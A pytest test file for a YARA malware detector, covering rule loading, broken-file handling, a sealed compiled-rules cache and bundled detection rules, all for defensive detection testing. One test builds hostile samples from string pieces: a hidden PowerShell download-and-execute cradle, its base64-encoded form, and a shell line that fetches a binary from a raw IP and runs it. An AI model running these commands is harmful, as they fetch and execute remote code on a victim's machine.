"""The YARA detector: loading rule packs, isolating broken files, externals, the compiled-rules
cache, timeouts, meta mapping, and the bundled curated rules."""

from __future__ import annotations

import hashlib
import mmap
import os
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yara

from aegis_engine.config import ScanLimits
from aegis_engine.content import ContentSources
from aegis_engine.detectors import yara_cache
from aegis_engine.detectors.base import Detector, ScanObject
from aegis_engine.detectors.registry import DetectorContext
from aegis_engine.detectors.yara_rules import YaraDetector, make_detector
from aegis_engine.errors import LimitExceeded
from aegis_engine.paths import AegisPaths
from aegis_engine.results import FindingKind, Severity

REPO = Path(__file__).resolve().parents[1]
BUNDLED_RULES = REPO / "resources" / "rules"
CLAMAV_TESTFILES = Path("/usr/share/clamav-testfiles")
REVERSINGLABS = Path("/work/shared/rules/reversinglabs")


# Fixtures and helpers ----------------------------------------------------------------------
@dataclass
class Env:
    home: Path
    warnings: list[str] = field(default_factory=list)

    def ctx(self, *rule_paths: Path, yara_timeout: int = 60) -> DetectorContext:
        return DetectorContext(
            paths=AegisPaths.under(self.home),
            content=ContentSources(rule_paths=tuple(rule_paths), hash_files=(), model_dir=None),
            limits=ScanLimits(yara_timeout=yara_timeout),
            warn=self.warnings.append,
        )

    def detector(self, *rule_paths: Path, yara_timeout: int = 60) -> YaraDetector:
        det = make_detector(self.ctx(*rule_paths, yara_timeout=yara_timeout))
        assert det is not None
        return det


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Env:
    home = tmp_path / "home"
    monkeypatch.setenv("AEGIS_HOME", str(home))
    return Env(home=home)


def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def obj_for(
    data: Any,
    *,
    path: str = "/scan/sample.bin",
    name: str | None = None,
    filetype: str = "unknown",
    owner: str = "",
    hashes: dict[str, str] | None = None,
) -> ScanObject:
    raw = bytes(data)
    if hashes is None:
        hashes = {"sha256": hashlib.sha256(raw).hexdigest()}
    return ScanObject(
        path=path,
        name=name if name is not None else os.path.basename(path),
        data=data,
        size=len(raw),
        hashes=hashes,
        filetype=filetype,
        owner=owner,
    )


def names(det: YaraDetector, obj: ScanObject) -> set[str]:
    return {f.name for f in det.scan(obj)}


def string_rule(name: str, needle: str, meta: str = "") -> str:
    meta_block = f"meta:\n{meta}\n" if meta else ""
    return f'rule {name} {{\n{meta_block}strings:\n $a = "{needle}"\ncondition:\n $a\n}}\n'


def forbid_compile(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*args: object, **kwargs: object) -> None:
        raise AssertionError("yara.compile must not be called")

    monkeypatch.setattr(yara, "compile", boom)


# Loading, namespaces, broken files ------------------------------------------------------------
def test_protocol_and_no_rule_files(env: Env, tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    write(empty / "notes.txt", "not a rule")
    assert make_detector(env.ctx(empty)) is None
    assert make_detector(env.ctx()) is None
    write(empty / "UPPER.YAR", string_rule("Upper", "upper-needle"))
    write(empty / "deep" / "er" / "x.Yara", string_rule("Deep", "deep-needle"))
    det = env.detector(empty)
    assert isinstance(det, Detector)
    assert det.name == "yara"
    assert {f.namespace for f in det.rule_files} == {"UPPER.YAR", "deep/er/x.Yara"}
    assert names(det, obj_for(b"..upper-needle..deep-needle..")) == {"Upper", "Deep"}


def test_single_file_root(env: Env, tmp_path: Path) -> None:
    single = write(tmp_path / "one.yar", string_rule("One", "one-needle"))
    det = env.detector(single)
    assert names(det, obj_for(b"xx one-needle xx")) == {"One"}


def test_broken_file_is_skipped_reported_once(env: Env, tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    write(rules / "good1.yar", string_rule("Good_One", "alpha-needle"))
    write(rules / "sub" / "good2.yara", string_rule("Good_Two", "beta-needle"))
    broken = write(rules / "broken.yar", "rule Broken {\n condition:\n  undefined_thing\n}\n")
    det = env.detector(rules)
    assert det.broken == []  # nothing is compiled before the first scan
    assert env.warnings == []

    assert names(det, obj_for(b"alpha-needle beta-needle")) == {"Good_One", "Good_Two"}
    assert len(det.broken) == 1
    path, message = det.broken[0]
    assert path == str(broken)
    assert "undefined_thing" in message
    assert len(env.warnings) == 1
    assert "broken.yar" in env.warnings[0] and "undefined_thing" in env.warnings[0]

    det.scan(obj_for(b"alpha-needle"))
    det.ensure_loaded()
    assert len(env.warnings) == 1  # once per load, not per scan


def test_many_kinds_of_broken_files(env: Env, tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    write(rules / "a_good.yar", string_rule("Good_A", "good-a"))
    write(rules / "b_unknown_module.yar", 'import "nosuchmodule"\nrule M { condition: true }\n')
    write(rules / "c_syntax.yar", "rule {{{ this is not yara\n")
    write(rules / "d_dup.yar", "rule D { condition: true }\nrule D { condition: false }\n")
    # The compiler names the included file, not this one: the culprit is found by the
    # one-by-one fallback.
    write(rules / "bad_include.inc", "rule Inc { condition: nope }\n")
    write(rules / "e_includes.yar", 'include "bad_include.inc"\n')
    write(rules / "f_latin1.yar", string_rule("Latin", "caf\xe9-needle").encode("latin-1"))
    write(rules / "z_good.yara", string_rule("Good_Z", "good-z"))
    det = env.detector(rules)
    found = names(det, obj_for("good-a good-z caf\xe9-needle".encode("latin-1")))
    # A non-UTF-8 rule file is not broken: YARA reads bytes.
    assert found == {"Good_A", "Good_Z", "Latin"}
    broken = sorted(Path(p).name for p, _ in det.broken)
    assert broken == ["b_unknown_module.yar", "c_syntax.yar", "d_dup.yar", "e_includes.yar"]
    assert len(env.warnings) == 4
    assert all("skipped" in w for w in env.warnings)


@pytest.mark.skipif(os.name != "posix", reason="needs bytes file names")
def test_non_utf8_file_name_is_reported(env: Env, tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    write(rules / "good.yar", string_rule("Good", "good-needle"))
    odd = Path(os.fsdecode(bytes(rules) + b"/caf\xe9.yar"))
    try:
        write(odd, string_rule("Odd", "odd-needle"))
    except (OSError, UnicodeError):
        pytest.skip("file system refuses non-UTF-8 names")
    det = env.detector(rules)
    assert names(det, obj_for(b"good-needle odd-needle")) == {"Good"}
    assert len(det.broken) == 1 and "UTF-8" in det.broken[0][1]


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root reads anything")
def test_unreadable_file_is_reported(env: Env, tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    write(rules / "good.yar", string_rule("Good", "good-needle"))
    locked = write(rules / "locked.yar", string_rule("Locked", "locked-needle"))
    locked.chmod(0)
    try:
        det = env.detector(rules)
        assert names(det, obj_for(b"good-needle locked-needle")) == {"Good"}
        assert [p for p, _ in det.broken] == [str(locked)]
    finally:
        locked.chmod(0o600)


def test_every_file_broken_scans_nothing(env: Env, tmp_path: Path) -> None:
    write(tmp_path / "r" / "bad.yar", "rule X { condition: nope }\n")
    det = env.detector(tmp_path / "r")
    assert det.scan(obj_for(b"anything")) == []
    assert len(det.broken) == 1 and len(env.warnings) == 1


def test_same_rule_name_in_two_files(env: Env, tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    write(rules / "a.yar", string_rule("Same_Name", "shared-needle"))
    write(rules / "sub" / "b.yar", string_rule("Same_Name", "shared-needle"))
    other = tmp_path / "other"
    write(other / "a.yar", string_rule("Same_Name", "shared-needle"))  # same relative path
    det = env.detector(rules, other)
    findings = det.scan(obj_for(b"--shared-needle--"))
    assert det.broken == []
    assert [f.name for f in findings] == ["Same_Name"] * 3
    assert sorted(f.details["namespace"] for f in findings) == ["a.yar", "a.yar#2", "sub/b.yar"]


def test_same_folder_twice_is_loaded_once(env: Env, tmp_path: Path) -> None:
    write(tmp_path / "r" / "a.yar", string_rule("Once", "once-needle"))
    det = env.detector(tmp_path / "r", tmp_path / "r")
    assert len(det.rule_files) == 1
    assert len(det.scan(obj_for(b"once-needle"))) == 1


def test_missing_rule_path_is_warned(env: Env, tmp_path: Path) -> None:
    write(tmp_path / "r" / "a.yar", string_rule("A", "a-needle"))
    det = env.detector(tmp_path / "r", tmp_path / "nowhere")
    assert len(det.rule_files) == 1
    assert any("nowhere" in w for w in env.warnings)


# Externals --------------------------------------------------------------------------------
def test_all_externals(env: Env, tmp_path: Path) -> None:
    data = b"content for externals"
    md5 = hashlib.md5(data).hexdigest()
    sha1 = hashlib.sha1(data).hexdigest()
    sha256 = hashlib.sha256(data).hexdigest()
    write(
        tmp_path / "r" / "ext.yar",
        f"""
rule Ext_Name {{ condition: filename == "x.txt" and extension == "txt" }}
rule Ext_Path {{ condition: filepath == "/some/dir/x.txt" }}
rule Ext_Type {{ condition: filetype == "TEXT" }}
rule Ext_Owner {{ condition: owner == "alice" }}
rule Ext_Md5 {{ condition: md5 == "{md5}" }}
rule Ext_Sha1 {{ condition: sha1 == "{sha1}" }}
rule Ext_Sha256 {{ condition: sha256 == "{sha256}" }}
rule Ext_Empty_When_Absent {{ condition: md5 == "" and sha1 == "" }}
""",
    )
    det = env.detector(tmp_path / "r")
    assert det.hashes_needed == frozenset({"md5", "sha1"})
    full = obj_for(
        data,
        path="/some/dir/x.txt",
        filetype="TEXT",
        owner="alice",
        hashes={"md5": md5, "sha1": sha1, "sha256": sha256},
    )
    assert names(det, full) == {
        "Ext_Name",
        "Ext_Path",
        "Ext_Type",
        "Ext_Owner",
        "Ext_Md5",
        "Ext_Sha1",
        "Ext_Sha256",
    }
    other = obj_for(data, path="/elsewhere/y.TXT", hashes={"sha256": sha256})
    assert names(det, other) == {"Ext_Sha256", "Ext_Empty_When_Absent"}
    member = obj_for(data, path="/a.zip!x.txt", name="x.txt", hashes={})
    assert names(det, member) == {"Ext_Name", "Ext_Empty_When_Absent"}


def test_externals_are_per_scan_across_threads(env: Env, tmp_path: Path) -> None:
    write(
        tmp_path / "r" / "t.yar",
        'rule Is_A { condition: filename == "a.txt" }\n'
        'rule Is_B { condition: filename == "b.txt" }\n',
    )
    det = env.detector(tmp_path / "r")
    data = b"x" * 200_000
    errors: list[str] = []

    def work(name: str, want: str) -> None:
        for _ in range(100):
            got = names(det, obj_for(data, path=f"/d/{name}"))
            if got != {want}:
                errors.append(f"{name}: {got}")

    threads = [
        threading.Thread(target=work, args=("a.txt", "Is_A") if i % 2 else ("b.txt", "Is_B"))
        for i in range(8)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []


def test_surrogate_file_name_does_not_break_scan(env: Env, tmp_path: Path) -> None:
    write(tmp_path / "r" / "a.yar", string_rule("A", "a-needle"))
    det = env.detector(tmp_path / "r")
    odd = os.fsdecode(b"/d/caf\xe9.txt")
    assert names(det, obj_for(b"a-needle", path=odd)) == {"A"}


def test_hashes_needed(env: Env, tmp_path: Path) -> None:
    plain = write(tmp_path / "plain" / "p.yar", string_rule("P", "p"))
    write(
        tmp_path / "plain" / "module.yar",
        'import "hash"\n'
        'rule H {\n meta:\n  md5 = "0123"\n  sha1 = "4567"\n  description = "md5 == x"\n'
        ' condition:\n  hash.md5(0, filesize) == "0123" or hash.sha1(0, filesize) == "4567"\n}\n',
    )
    assert env.detector(tmp_path / "plain").hashes_needed == frozenset()
    assert env.detector(plain).hashes_needed == frozenset()
    md5_rule = write(
        tmp_path / "md5" / "m.yar",
        'rule M { condition: md5 == "d41d8cd98f00b204e9800998ecf8427e" }\n',
    )
    assert env.detector(md5_rule).hashes_needed == frozenset({"md5"})
    sha1_rule = write(tmp_path / "sha1" / "s.yar", 'rule S { condition: sha1 != "" }\n')
    assert env.detector(sha1_rule).hashes_needed == frozenset({"sha1"})


def test_data_may_be_mmap_or_memoryview(env: Env, tmp_path: Path) -> None:
    write(tmp_path / "r" / "a.yar", string_rule("Mapped", "mapped-needle"))
    det = env.detector(tmp_path / "r")
    sample = write(tmp_path / "sample.bin", b"\0" * 5000 + b"mapped-needle" + b"\0" * 5000)
    with sample.open("rb") as fh, mmap.mmap(fh.fileno(), 0, access=mmap.ACCESS_READ) as mm:
        assert names(det, obj_for(mm)) == {"Mapped"}
        view = memoryview(mm)
        try:
            assert names(det, obj_for(view)) == {"Mapped"}
        finally:
            view.release()
    assert names(det, obj_for(bytearray(b"mapped-needle"))) == {"Mapped"}


# Meta mapping -------------------------------------------------------------------------------
def test_meta_mapping(env: Env, tmp_path: Path) -> None:
    write(
        tmp_path / "r" / "meta.yar",
        string_rule("Plain_Third_Party", "needle")
        + string_rule(
            "Suspicious_Float",
            "needle",
            ' severity = "suspicious"\n score = "0.7"\n aegis_kind = "heuristic"',
        )
        + string_rule("Info_Default", "needle", ' severity = "info"')
        + string_rule("Loki_Score", "needle", " score = 85")
        + string_rule("Suspicious_Default", "needle", ' severity = "Suspicious"')
        + string_rule("High_Word", "needle", ' severity = "high"\n score = 250')
        + string_rule(
            "Bad_Values", "needle", ' severity = "weird"\n score = "lots"\n aegis_kind = "x"'
        )
        + 'rule Tagged : tag_one tag_two {\n meta:\n  author = "someone"\n  rank = 3\n'
        '  flag = true\n strings:\n  $n = "needle"\n condition:\n  $n\n}\n',
    )
    det = env.detector(tmp_path / "r")
    by_name = {f.name: f for f in det.scan(obj_for(b"a needle here"))}
    assert len(by_name) == 8

    f = by_name["Plain_Third_Party"]
    assert (f.detector, f.severity, f.score, f.kind) == (
        "yara",
        Severity.MALICIOUS,
        1.0,
        FindingKind.SIGNATURE,
    )
    f = by_name["Suspicious_Float"]
    assert (f.severity, f.score, f.kind) == (Severity.SUSPICIOUS, 0.7, FindingKind.HEURISTIC)
    f = by_name["Info_Default"]
    assert (f.severity, f.score) == (Severity.INFO, 0.2)
    f = by_name["Loki_Score"]
    assert (f.severity, f.score) == (Severity.MALICIOUS, 0.85)
    assert by_name["Suspicious_Default"].score == 0.6
    f = by_name["High_Word"]
    assert (f.severity, f.score) == (Severity.MALICIOUS, 1.0)
    f = by_name["Bad_Values"]
    assert (f.severity, f.score, f.kind) == (Severity.MALICIOUS, 1.0, FindingKind.SIGNATURE)

    tagged = by_name["Tagged"]
    assert tagged.details["namespace"] == "meta.yar"
    assert tagged.details["tags"] == ["tag_one", "tag_two"]
    assert tagged.details["meta"] == {"author": "someone", "rank": 3, "flag": True}
    assert tagged.details["strings"] == ["$n"]
    assert tagged.to_dict()["details"]["meta"]["rank"] == 3


# Laziness and the compiled-rules cache ------------------------------------------------------
def test_constructor_does_not_compile(
    env: Env, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(tmp_path / "r" / "a.yar", string_rule("A", "a-needle"))
    forbid_compile(monkeypatch)
    det = env.detector(tmp_path / "r")
    assert len(det.version) == 64
    assert det.hashes_needed == frozenset()
    assert det.rule_count is None
    assert not env.home.joinpath("cache").exists() or not any(
        env.home.joinpath("cache").rglob("*.yarc")
    )


def test_compiled_cache_is_used(env: Env, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rules = tmp_path / "rules"
    write(rules / "good.yar", string_rule("Cached_Rule", "cache-needle"))
    write(rules / "broken.yar", "rule B { condition: nope }\n")
    first = env.detector(rules)
    first.ensure_loaded()
    assert not first.loaded_from_cache
    cache_dir = AegisPaths.under(env.home).compiled_rules_dir
    compiled = cache_dir / f"{first.version}.yarc"
    assert compiled.is_file()
    assert os.listdir(cache_dir) == [compiled.name]  # no plaintext sidecar
    assert len(env.warnings) == 1

    forbid_compile(monkeypatch)
    second = env.detector(rules)
    assert second.version == first.version
    assert names(second, obj_for(b"-cache-needle-")) == {"Cached_Rule"}
    assert second.loaded_from_cache
    assert second.rule_count == 1
    # Broken files are reported again when the cached rules are loaded.
    assert second.broken == first.broken
    assert len(env.warnings) == 2 and "broken.yar" in env.warnings[1]


def test_version_follows_content(env: Env, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rules = tmp_path / "rules"
    rule_file = write(rules / "a.yar", string_rule("Versioned", "old-needle"))
    first = env.detector(rules)
    first.ensure_loaded()
    assert env.detector(rules).version == first.version  # stable

    write(rule_file, string_rule("Versioned", "new-needle"))
    second = env.detector(rules)
    assert second.version != first.version
    assert names(second, obj_for(b"new-needle")) == {"Versioned"}
    assert not second.loaded_from_cache
    assert names(second, obj_for(b"old-needle")) == set()

    write(rules / "extra.yar", string_rule("Extra", "x"))
    assert env.detector(rules).version not in (first.version, second.version)
    # A file that a rule file includes is part of its content.
    write(rules / "parts" / "inc.txt", string_rule("Included", "inc-one"))
    write(rules / "with_include.yar", 'include "parts/inc.txt"\n')
    before = env.detector(rules)
    assert names(before, obj_for(b"inc-one")) == {"Included"}
    write(rules / "parts" / "inc.txt", string_rule("Included", "inc-two"))
    after = env.detector(rules)
    assert after.version != before.version
    assert names(after, obj_for(b"inc-two")) == {"Included"}
    # Only content counts, not where the pack lives.
    moved = tmp_path / "moved"
    write(moved / "a.yar", string_rule("Versioned", "new-needle"))
    assert env.detector(moved).version == second.version


@pytest.mark.parametrize(
    "damage", ["garbage", "truncated", "empty", "one-bit", "unsealed", "swapped", "new-key"]
)
def test_tampered_or_corrupt_cache_is_not_loaded(
    env: Env, tmp_path: Path, damage: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The cache is sealed: any change is caught before ``yara.load`` sees the bytes, the
    file is recompiled, and one warning says so (issue 12 item 2)."""
    rules = tmp_path / "rules"
    write(rules / "a.yar", string_rule("Recovered", "rec-needle"))
    write(tmp_path / "other" / "b.yar", string_rule("Other", "other-needle"))
    first = env.detector(rules)
    first.ensure_loaded()
    paths = AegisPaths.under(env.home)
    compiled = paths.compiled_rules_dir / f"{first.version}.yarc"
    good_bytes = compiled.read_bytes()
    assert good_bytes.startswith(yara_cache.MAGIC)
    if damage == "garbage":
        compiled.write_bytes(b"this is not a compiled yara file" * 10)
    elif damage == "truncated":
        compiled.write_bytes(good_bytes[: len(good_bytes) // 2])
    elif damage == "empty":
        compiled.write_bytes(b"")
    elif damage == "one-bit":
        flipped = bytearray(good_bytes)
        flipped[len(flipped) // 2] ^= 0x01
        compiled.write_bytes(bytes(flipped))
    elif damage == "unsealed":
        # valid compiled rules an attacker wrote in place: never handed to yara.load
        yara.compile(source="rule Planted { condition: true }").save(str(compiled))
    elif damage == "swapped":
        # another rule set's sealed file under this version's name
        other = env.detector(tmp_path / "other")
        other.ensure_loaded()
        os.replace(paths.compiled_rules_dir / f"{other.version}.yarc", compiled)
    else:
        paths.rules_cache_key_file.write_bytes(os.urandom(32))

    loads: list[int] = []
    real_load: Callable[..., Any] = yara.load
    monkeypatch.setattr(yara, "load", lambda *a, **k: loads.append(1) or real_load(*a, **k))
    before = len(env.warnings)
    second = env.detector(rules)
    assert names(second, obj_for(b"rec-needle")) == {"Recovered"}
    assert names(second, obj_for(b"planted")) == set()
    assert not second.loaded_from_cache
    assert loads == []  # nothing reached the YARA loader
    assert len(env.warnings) == before + 1
    assert "was not loaded" in env.warnings[-1] and compiled.name in env.warnings[-1]
    assert compiled.read_bytes().startswith(yara_cache.MAGIC)  # rewritten, sealed again
    third = env.detector(rules)
    third.ensure_loaded()
    assert third.loaded_from_cache
    assert len(env.warnings) == before + 1


def test_cache_key_is_private_and_outside_the_cache(env: Env, tmp_path: Path) -> None:
    write(tmp_path / "r" / "a.yar", string_rule("A", "a-needle"))
    env.detector(tmp_path / "r").ensure_loaded()
    paths = AegisPaths.under(env.home)
    key = paths.rules_cache_key_file
    assert key.is_file() and key.stat().st_mode & 0o777 == 0o600
    assert key.parent == paths.config_dir
    assert not key.is_relative_to(paths.cache_dir)


def test_cached_rules_hold_no_plaintext_a_rule_could_match(env: Env, tmp_path: Path) -> None:
    """Regression (issue 11 item 1): the plaintext cache held the bundled rules' strings and
    Aegis_Test_ClamAV_TestFile matched it."""
    write(tmp_path / "r" / "a.yar", string_rule("Needle", "cache-plaintext-needle"))
    det = env.detector(tmp_path / "r", BUNDLED_RULES)
    det.ensure_loaded()
    cache_files = list(AegisPaths.under(env.home).compiled_rules_dir.iterdir())
    assert cache_files
    for f in cache_files:
        data = f.read_bytes()
        assert b"cache-plaintext-needle" not in data
        assert det.scan(obj_for(data, name=f.name)) == []


def test_cache_keeps_only_newest(env: Env, tmp_path: Path) -> None:
    cache_dir = AegisPaths.under(env.home).compiled_rules_dir
    cache_dir.mkdir(parents=True)
    old = time.time() - 10_000
    for i in range(8):
        stale = cache_dir / f"{i:064x}.yarc"
        stale.write_bytes(yara_cache.MAGIC + b"old")
        os.utime(stale, (old + i, old + i))
    plaintext = cache_dir / f"{99:064x}.yarc"  # from before the cache was sealed
    plaintext.write_bytes(b"YARA plaintext")
    (cache_dir / f"{99:064x}.json").write_text("{}")
    tmp_leftover = cache_dir / ".leftover.yarc.tmp"
    tmp_leftover.write_bytes(b"x")
    os.utime(tmp_leftover, (old, old))
    write(tmp_path / "r" / "a.yar", string_rule("A", "a"))
    det = env.detector(tmp_path / "r")
    det.ensure_loaded()
    left = sorted(p.name for p in cache_dir.iterdir())
    compiled = [n for n in left if n.endswith(".yarc")]
    assert f"{det.version}.yarc" in compiled
    assert len(compiled) == yara_cache.CACHE_KEEP
    assert f"{7:064x}.yarc" in compiled  # the newest old ones survive
    assert f"{0:064x}.yarc" not in compiled
    assert plaintext.name not in left
    assert not [n for n in left if n.endswith(".json")]
    assert ".leftover.yarc.tmp" not in left


def test_concurrent_first_scans_load_once(
    env: Env, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(tmp_path / "r" / "a.yar", string_rule("A", "a-needle"))
    write(tmp_path / "r" / "bad.yar", "rule B { condition: nope }\n")
    calls: list[int] = []
    real_compile: Callable[..., Any] = yara.compile

    def counting_compile(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        time.sleep(0.05)
        return real_compile(*args, **kwargs)

    monkeypatch.setattr(yara, "compile", counting_compile)
    det = env.detector(tmp_path / "r")
    results: list[set[str]] = []
    threads = [
        threading.Thread(target=lambda: results.append(names(det, obj_for(b"a-needle"))))
        for _ in range(6)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert results == [{"A"}] * 6
    assert len(calls) == 2  # one failed compile (bad.yar), one successful, for all threads
    assert len(env.warnings) == 1


# Limits -------------------------------------------------------------------------------------
def test_timeout_raises_limit_exceeded(env: Env, tmp_path: Path) -> None:
    write(
        tmp_path / "r" / "slow.yar",
        "rule Slow {\n condition:\n  for all i in (0..filesize - 1) :\n"
        "   (for all j in (0..64) : (uint8(i + j) == 0x41))\n}\n",
    )
    det = env.detector(tmp_path / "r", yara_timeout=1)
    det.ensure_loaded()
    started = time.perf_counter()
    with pytest.raises(LimitExceeded) as info:
        det.scan(obj_for(b"A" * (4 * 1024 * 1024)))
    assert info.value.limit == "yara-timeout"
    assert time.perf_counter() - started < 4.0


# The real third-party pack ------------------------------------------------------------------
def test_reversinglabs_pack(env: Env) -> None:
    if not REVERSINGLABS.is_dir():
        pytest.skip(f"{REVERSINGLABS} is not present")
    t0 = time.perf_counter()
    det = env.detector(REVERSINGLABS)
    t1 = time.perf_counter()
    det.ensure_loaded()
    t2 = time.perf_counter()
    assert len(det.rule_files) >= 274
    assert det.rule_count is not None and det.rule_count > 1000
    assert len(env.warnings) == len(det.broken)
    assert not det.loaded_from_cache

    again = env.detector(REVERSINGLABS)
    t3 = time.perf_counter()
    again.ensure_loaded()
    t4 = time.perf_counter()
    assert again.loaded_from_cache
    assert again.rule_count == det.rule_count
    assert again.scan(obj_for(b"MZ" + b"\0" * 1000)) == []
    print(
        f"\nreversinglabs: {len(det.rule_files)} files, {det.rule_count} rules, "
        f"{len(det.broken)} broken; list+fingerprint {t1 - t0:.3f}s, compile {t2 - t1:.3f}s, "
        f"second list+fingerprint {t3 - t2:.3f}s, cached load {t4 - t3:.3f}s"
    )


# The bundled curated rules ------------------------------------------------------------------
@pytest.fixture
def bundled(env: Env) -> YaraDetector:
    det = env.detector(BUNDLED_RULES)
    det.ensure_loaded()
    assert det.broken == [], det.broken
    assert env.warnings == []
    return det


def test_bundled_rules_meta(bundled: YaraDetector) -> None:
    assert {f.namespace for f in bundled.rule_files} >= {
        "aegis_test_files.yar",
        "aegis_packers.yar",
        "aegis_script_droppers.yar",
    }
    assert bundled.hashes_needed == frozenset()
    for path in sorted(BUNDLED_RULES.glob("*.yar")):
        rules = yara.compile(filepath=str(path))
        for rule in rules:
            if rule.is_private:
                continue
            meta = rule.meta
            assert meta.get("author") == "Aegis", rule.identifier
            for key in ("description", "date", "severity", "score", "aegis_kind"):
                assert key in meta, (rule.identifier, key)
            assert meta["severity"] in ("info", "suspicious", "malicious")
            assert meta["aegis_kind"] in ("signature", "heuristic")


def test_bundled_detects_clamav_test_file(bundled: YaraDetector, tmp_path: Path) -> None:
    clam = CLAMAV_TESTFILES / "clam.exe"
    if not clam.is_file():
        pytest.skip("clamav-testfiles not installed")
    findings = bundled.scan(obj_for(clam.read_bytes(), path=str(clam), filetype="PE"))
    assert [(f.name, f.severity) for f in findings] == [
        ("Aegis_Test_ClamAV_TestFile", Severity.MALICIOUS)
    ]
    # The same bytes unpacked from an archive (as the scanner hands members over).
    with zipfile.ZipFile(CLAMAV_TESTFILES / "clam.zip") as zf:
        member = zf.read("clam.exe")
    found = names(bundled, obj_for(member, path=f"{CLAMAV_TESTFILES}/clam.zip!clam.exe"))
    assert found == {"Aegis_Test_ClamAV_TestFile"}


def test_bundled_packer_rules_are_info(bundled: YaraDetector) -> None:
    upx = CLAMAV_TESTFILES / "clam-upx.exe"
    if not upx.is_file():
        pytest.skip("clamav-testfiles not installed")
    findings = bundled.scan(obj_for(upx.read_bytes(), path=str(upx)))
    assert [(f.name, f.severity) for f in findings] == [("Aegis_Packer_UPX", Severity.INFO)]


def test_bundled_detects_powershell_cradle(bundled: YaraDetector) -> None:
    # Built from pieces so that this test file itself is not a dropper sample.
    cradle = (
        'powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command "IEX (New-Object '
        + "Net.WebClient).Download"
        + "String('http://203.0.113.7/a.ps1')\"\r\n"
    )
    findings = bundled.scan(obj_for(cradle.encode(), path="/tmp/run.bat"))
    assert [(f.name, f.severity, f.kind) for f in findings] == [
        ("Aegis_Script_PowerShell_DownloadCradle", Severity.SUSPICIOUS, FindingKind.HEURISTIC)
    ]
    payload = "IEX (New-Object Net.WebClient).Download" + "String('http://example.test/a')"
    encoded = __import__("base64").b64encode(payload.encode("utf-16-le")).decode()
    line = f"powershell -NoProfile -w hidden -EncodedCommand {encoded}\n"
    assert names(bundled, obj_for(line.encode(), path="/tmp/x.cmd")) == {
        "Aegis_Script_PowerShell_EncodedCommand_Hidden",
        "Aegis_Script_PowerShell_EncodedCradle",
    }
    shell = "cd /tmp; wget http://198.51.100.77/x86 -O x; chm" + "od +x x; ./x\n"
    assert names(bundled, obj_for(shell.encode(), path="/tmp/i.sh")) == {
        "Aegis_Script_Shell_DownloadExec_RawIP"
    }


def test_bundled_rules_do_not_flag_ordinary_files(bundled: YaraDetector) -> None:
    ordinary = [
        Path(os.__file__),  # an ordinary Python module
        Path(zipfile.__file__),
        REPO / "aegis_engine" / "detectors" / "yara_rules.py",
        Path(__file__),  # this test file, which talks about droppers
        *sorted(BUNDLED_RULES.glob("*.yar")),  # rule sources mention every indicator
    ]
    text = (
        "Install Chocolatey with the documented command, or Scoop with irm get.scoop.sh | i"
        + "ex.\n"
        "iex ((New-Object System.Net.WebClient).Download"
        + "String('https://community.chocolatey.org/install.ps1'))\n"
        "curl -fsSL https://get.docker.com | sh\n"
        # Indicators on other lines than the cradle do not count.
        "Start-Process notepad -WindowStyle Hidden\n"
        "The test server is http://203.0.113.7/ for now.\n"
    )
    samples = [(str(p), p.read_bytes()) for p in ordinary if p.is_file()]
    samples.append(("/home/u/notes.md", text.encode()))
    for path, data in samples:
        findings = bundled.scan(obj_for(data, path=path))
        assert [f.name for f in findings if f.severity is not Severity.INFO] == [], path
